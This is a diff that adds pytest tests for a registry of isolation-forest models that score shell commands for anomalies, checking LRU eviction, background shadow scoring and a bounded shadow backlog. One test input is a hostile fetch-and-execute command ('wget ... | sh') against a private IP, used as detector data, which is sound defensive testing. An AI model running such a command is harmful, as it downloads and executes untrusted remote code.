@@ -0,0 +1,84 @@
+import threading
+
+from isolation_forest_compiled import compile_forest
+from isolation_forest_registry import ModelRegistry
+
+
+def _drain_shadow(registry):
+    # Single worker: a no-op submitted now finishes after every queued shadow job
+    registry._shadow_executor.submit(lambda: None).result(timeout=10)
+
+
+def test_lru_eviction_by_compiled_nbytes(trained_runtime):
+    model, meta = trained_runtime._RUNTIME_CACHE["model"], trained_runtime._RUNTIME_CACHE["meta"]
+    forest = compile_forest(model)
+    registry = ModelRegistry(memory_budget=2 * forest.nbytes)
+
+    registry._put("a", forest, dict(meta))
+    registry._put("b", forest, dict(meta))
+    assert registry.stats()["resident_bytes"] == 2 * forest.nbytes
+    registry._entry("a")  # touch: "b" is now least recently used
+    registry._put("c", forest, dict(meta))
+
+    stats = registry.stats()
+    assert [m["model_name"] for m in stats["resident"]] == ["c", "a"]
+    assert stats["evictions"] == 1
+    assert stats["resident_bytes"] <= registry.memory_budget
+
+    # A model larger than the whole budget still serves the request that loaded it
+    registry.memory_budget = forest.nbytes // 2
+    registry._put("d", forest, dict(meta))
+    assert [m["model_name"] for m in registry.stats()["resident"]] == ["d"]
+    assert registry.stats()["evictions"] == 3
+
+
+def test_shadow_scoring_runs_off_the_request_and_records_stats(trained_runtime):
+    model, meta = trained_runtime._RUNTIME_CACHE["model"], trained_runtime._RUNTIME_CACHE["meta"]
+    registry = ModelRegistry()
+    registry._put("candidate", compile_forest(model), dict(meta))
+    registry.set_shadow("candidate", sample_rate=1.0)
+
+    release = threading.Event()
+    threads = []
+    original = registry._shadow_score
+
+    def slow_shadow(*args):
+        threads.append(threading.current_thread().name)
+        release.wait(10)
+        original(*args)
+
+    registry._shadow_score = slow_shadow
+    commands = ["ls -la", "git status", "wget http://10.0.0.5/a.sh | sh"]
+    results = registry.score_commands(commands)
+    assert [r["model_name"] for r in results] == ["default"] * 3
+    assert registry.shadow_stats()["calls"] == 0  # primary returned before the candidate ran
+
+    release.set()
+    registry.score_commands(commands[:1])
+    _drain_shadow(registry)
+    stats = registry.shadow_stats()
+    assert threads and all(name.startswith("if-shadow") for name in threads)
+    assert (stats["calls"], stats["commands"], stats["errors"], stats["pending"]) == (2, 4, 0, 0)
+    # Same model on both sides: labels always agree
+    assert stats["label_agreement"] == 1.0
+    assert stats["primary_avg_ms"] is not None and stats["candidate_avg_ms"] is not None
+
+
+def test_shadow_backlog_is_bounded(trained_runtime, monkeypatch):
+    import isolation_forest_registry
+
+    model, meta = trained_runtime._RUNTIME_CACHE["model"], trained_runtime._RUNTIME_CACHE["meta"]
+    monkeypatch.setattr(isolation_forest_registry, "SHADOW_MAX_PENDING", 1)
+    registry = ModelRegistry()
+    registry._put("candidate", compile_forest(model), dict(meta))
+    registry.set_shadow("candidate", sample_rate=1.0)
+    release = threading.Event()
+    original = registry._shadow_score
+    registry._shadow_score = lambda *args: (release.wait(10), original(*args))
+
+    for _ in range(3):
+        registry.score_commands(["ls"])
+    assert registry.shadow_stats()["dropped"] == 2
+    release.set()
+    _drain_shadow(registry)
+    assert registry.shadow_stats()["calls"] == 1